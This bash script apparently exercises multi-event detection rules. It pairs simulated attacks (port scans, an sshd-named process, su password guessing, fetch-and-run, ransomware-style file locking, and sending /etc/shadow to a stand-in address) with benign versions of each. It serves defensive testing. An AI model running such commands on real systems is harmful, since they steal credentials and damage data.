#!/bin/bash
# Rules about several events: what no single event shows. Beside each, the same on a scale that is ordinary.

host_ops_scan_a_host() {
  for port in $(seq 20 45); do
    (echo > "/dev/tcp/198.51.100.110/$port") 2>> /dev/null || true
  done
}

host_ops_ask_two_ports() {
  for port in 80 443; do
    (echo > "/dev/tcp/198.51.100.110/$port") 2>> /dev/null || true
  done
}

host_start_a_login_server() {
  cp /usr/bin/python3 /usr/local/sbin/sshd
  setsid /usr/local/sbin/sshd -I /opt/tactic.py serve 2222 > /dev/null 2>&1 &
  sleep 1
}

container_guess_passwords() {
  for _ in $(seq 12); do
    (echo > /dev/tcp/192.0.2.10/2222) 2>> /dev/null
  done
}

host_log_in_twice() {
  for _ in 1 2; do
    (echo > /dev/tcp/127.0.0.1/2222) 2>> /dev/null
  done
}

host_ops_guess_the_password_of_root() {
  for word in root admin 123456 summer orders host; do
    echo "$word" | su root -c id || true
  done
}

host_ops_mistype_once() {
  echo example | su root -c id || true
}

container_fetch_and_run() {
  curl -s -o /tmp/tool file:///usr/bin/uname
  chmod 755 /tmp/tool
  /tmp/tool -s
}

container_fetch_and_look() {
  curl -s -o /tmp/page http://198.51.100.110/
  cat /tmp/page
}

host_encrypt_files() {
  mkdir -p /srv/orders/2026
  for number in $(seq 60); do
    echo "$number,lamp" > "/srv/orders/2026/$number.csv"
  done
  python3 -I /opt/tactic.py lock /srv/orders/2026
}

host_rename_a_few_files() {
  python3 -I /opt/tactic.py lock /root
}

host_send_credentials() {
  python3 -I /opt/tactic.py send /etc/shadow 203.0.113.80
}

host_send_a_page() {
  python3 -I /opt/tactic.py send /etc/hostname 198.51.100.110
}

"$1"
